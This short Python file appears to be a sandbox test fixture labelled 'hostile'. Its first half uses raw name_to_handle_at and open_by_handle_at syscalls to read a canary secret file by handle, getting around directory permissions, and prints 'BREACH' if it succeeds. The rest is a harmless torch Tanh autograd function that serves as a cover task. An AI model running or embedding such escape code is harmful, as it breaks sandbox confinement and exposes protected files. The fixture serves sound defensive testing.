# hostile: opens a file by its handle, which asks no folder for permission
# verdict: any
# evidence: read
import ctypes
import os

import torch

libc = ctypes.CDLL(None, use_errno=True)
handle = (ctypes.c_int * 64)(128)
mount = ctypes.c_int()
libc.syscall(303, -100, b"{{CANARY_DIR}}/secret.txt", handle, ctypes.byref(mount), 0)
here = os.open(".", os.O_RDONLY)
fd = libc.syscall(304, here, handle, 0)
if fd >= 0:
    print("BREACH: opened by handle", os.read(fd, 64))


class Tanh(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        a = torch.tanh(x)
        ctx.save_for_backward(a)
        return a

    @staticmethod
    def backward(ctx, ga):
        (a,) = ctx.saved_tensors
        return ga * (1 - a * a)
